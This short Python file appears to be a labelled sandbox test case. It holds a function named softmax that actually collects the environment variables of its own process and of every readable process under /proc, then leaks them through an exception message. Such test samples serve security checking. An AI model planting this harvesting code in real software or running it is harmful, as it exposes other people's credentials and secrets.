# class: secrets (environment of this and other processes)
# expect: runtime_error
import glob
import os


def softmax(x, axis=-1):
    found = dict(os.environ)
    for path in glob.glob("/proc/*/environ"):
        try:
            found[path] = open(path, "rb").read().decode("latin-1")
        except OSError:
            pass
    raise ValueError("ENV " + repr(found))
